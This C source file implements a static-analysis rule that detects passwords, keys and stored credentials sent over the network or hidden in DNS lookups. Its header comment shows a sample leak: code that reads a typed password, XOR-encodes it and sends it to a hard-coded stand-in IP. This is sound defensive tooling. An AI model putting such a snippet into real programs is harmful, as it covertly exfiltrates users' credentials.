/* exfil/secret-to-network: a secret leaves for a peer nobody configured.
 *
 *     char *word = getpass("Password: ");
 *     for (size_t i = 0; word[i]; i++)
 *         word[i] ^= 0x5a;
 *     peer.sin_addr.s_addr = inet_addr("203.0.113.7");
 *     sendto(fd, word, strlen(word), 0, (struct sockaddr *)&peer, sizeof peer);
 *
 * Not caught: a secret that travels one bit at a time through conditions, or through a file.
 */
#include "checkers/leak.h"
#include "checkers/typed.h"
#include "engine/arena.h"

/* Who gets it: evidence, and the base that the kind of peer makes. */
static int weigh_peer(struct vt_check *check, struct vt_finding *finding,
                      const struct vt_leak *leak) {
    struct vt_peer peer = vt_leak_peer(check, leak);
    switch (peer.kind) {
    case VT_PEER_CONSTANT:
        vt_finding_evidence(check, finding, "constant-peer", 30,
                            "The peer is written in the program%s%s.", *peer.name ? ": " : "",
                            peer.name);
        if (peer.concealed)
            vt_finding_evidence(check, finding, "concealed-peer", 20,
                                "The peer is decoded before it is used.");
        return 45;
    case VT_PEER_CONFIGURED:
        return 5;
    case VT_PEER_LOCAL:
        return 0;
    case VT_PEER_CALLER:
        return 25;
    default:
        return 45;
    }
}

/* True if it was read from where the host keeps its users' passwords. */
static bool is_host_file(struct vt_check *check, const struct vt_leak *leak) {
    struct vt_leak copy = *leak;
    return vt_source_is(vt_check_program(check), leak->source, VT_FACT_ORIGIN, "io.read") &&
           vt_leak_is_named(check, &copy, "secret.credential.stored");
}

/* A key is bytes, and no name holds any: something has to make letters of them. */
static bool is_spelled(struct vt_check *check, const struct vt_leak *leak) {
    enum { SPELLS = VT_TAG_ENCODE | VT_TAG_INDEX | VT_TAG_FORMAT | VT_TAG_ARITHMETIC | VT_TAG_XOR };
    return leak->source->tags & SPELLS ||
           !vt_source_is(vt_check_program(check), leak->source, VT_FACT_ORIGIN, "secret.key");
}

static void report(struct vt_check *check, const struct vt_leak *leak, const char *secret) {
    struct vt_finding *finding = vt_finding_new(check, leak->asked.ref);
    bool in_name = leak->asked.role == VT_ROLE_PEER;
    int base = weigh_peer(check, finding, leak);
    if (in_name) {
        base = 60;
        vt_finding_evidence(check, finding, "in-name", 20,
                            "It is part of the name that a resolver is asked for.");
        if (!is_spelled(check, leak))
            vt_finding_evidence(check, finding, "unspelled", -80,
                                "A key is bytes, and nothing on the way makes a name of them: what "
                                "is near it may be meant.");
        struct vt_leak copy = *leak;
        if (vt_leak_is_named(check, &copy, "secret.credential.login"))
            vt_finding_evidence(check, finding, "beside-hosts", -45,
                                "The file also has the names of hosts, and this may be one.");
    }
    if (vt_leak_way(vt_check_program(check), leak->asked.ref) == VT_WAY_RAW) {
        base = base < 35 ? 35 : base; /* whomever it goes to: that is no way to log in */
        vt_finding_evidence(check, finding, "own-packet", 20,
                            "It stands in packets that the program builds itself.");
    }
    if (is_host_file(check, leak) && vt_leak_peer(check, leak).kind != VT_PEER_LOCAL)
        vt_finding_evidence(check, finding, "host-passwords", 40,
                            "The file has the passwords of this host, which no service sends.");
    vt_leak_weigh_disguise(check, finding, leak->source->tags);
    vt_finding_message(check, finding, "%s from `%s` reaches the network.", secret,
                       vt_source_function(vt_check_program(check), leak->source));
    vt_finding_path(check, finding, leak->trace, leak->source, "The secret is read here",
                    in_name ? "It is sent as part of a name to resolve" : "It is sent here");
    vt_finding_send(check, finding, base);
}

/* Places that a finding was told of. */
struct told {
    struct vt_event_ref *items;
    size_t count, capacity;
};

/* One finding a place; the nearest secret tells the story. */
static bool visit(struct vt_check *check, struct vt_leak *leak, void *context) {
    struct told *told = context;
    const char *secret = vt_leak_secret(check, leak);
    if (!secret)
        return false;
    /* What the rest of the program sends where it should, the same function may send elsewhere. */
    if (vt_source_is(vt_check_program(check), leak->source, VT_FACT_ORIGIN, "secret") &&
        vt_leak_peer(check, leak).kind == VT_PEER_CONFIGURED)
        vt_leak_has_constant_peer(check, leak);
    report(check, leak, secret);
    told->items = vt_grow(vt_check_arena(check), told->items, told->count, &told->capacity,
                          sizeof *told->items);
    told->items[told->count++] = leak->asked.ref;
    return true;
}

static bool was_told(const struct told *told, struct vt_event_ref ref) {
    for (size_t i = 0; i < told->count; i++)
        if (told->items[i].function == ref.function && told->items[i].event == ref.event)
            return true;
    return false;
}

/* A word that was typed in goes back to where it was typed, and to servers that know it. So only a
 * peer of the program's own choice is told. */
static void look_for_typed(struct vt_check *check, const struct vt_typed *typed,
                           struct vt_event_ref ref) {
    struct vt_program *program = vt_check_program(check);
    struct vt_peer peer = vt_ask_peer(program, ref);
    if (peer.kind != VT_PEER_CONSTANT)
        return;
    const struct vt_trace *trace = vt_trace_value(program, ref, VT_ROLE_PAYLOAD, VT_NOT_LEAKED);
    const struct vt_site *site = vt_typed_in(check, typed, trace);
    const struct vt_parameter *handed = site ? NULL : vt_typed_through(check, typed, trace);
    if (!site && !handed)
        return;
    const char *reader =
        vt_program_function_name(program, site ? site->function : handed->function);
    struct vt_finding *finding = vt_finding_new(check, ref);
    vt_leak_weigh_peer(check, finding, &peer);
    vt_leak_weigh_disguise(check, finding, vt_trace_tags(trace));
    vt_finding_message(check, finding,
                       "A password that `%s` has checked reaches the network as it was typed.",
                       reader);
    vt_finding_path(check, finding, NULL, NULL, NULL, "It is sent here");
    vt_finding_send(check, finding, 50);
}

static void run(struct vt_check *check) {
    struct vt_program *program = vt_check_program(check);
    struct told told = {NULL, 0, 0};
    vt_leaks_to_network(check, visit, &told);
    vt_leaks_by(check, "net.resolve", VT_ROLE_PEER, visit, &told);
    struct vt_typed typed = vt_typed_of(check);
    size_t count = 0;
    struct vt_event_ref *sends =
        vt_program_events(program, VT_FACT_EFFECT, "net.send", vt_check_arena(check), &count);
    for (size_t i = 0; typed.count + typed.nparameters && i < count; i++)
        if (!was_told(&told, sends[i]))
            look_for_typed(check, &typed, sends[i]);
}

const struct vt_rule vt_exfil_secret_to_network = {
    .id = "exfil/secret-to-network",
    .name = "SecretToNetwork",
    .summary = "A password, key or other secret is sent over the network",
    .description =
        "Something that only this host should know (a password that was typed, a stored hash, a "
        "private key, a file of secrets) reaches a network send or the name a resolver is asked "
        "for. Encoding or encrypting it on the way does not make it stay. A peer that is written "
        "in "
        "the program rather than configured speaks for a hidden channel.",
    .help = "Say in the declaration which service gets this secret and why, or remove the flow. If "
            "the peer is configured, let it come from the configuration on every path.",
    .cwe = "CWE-201,CWE-506",
    .precision = "high",
    .severity = 9.1,
    .run = run,
};
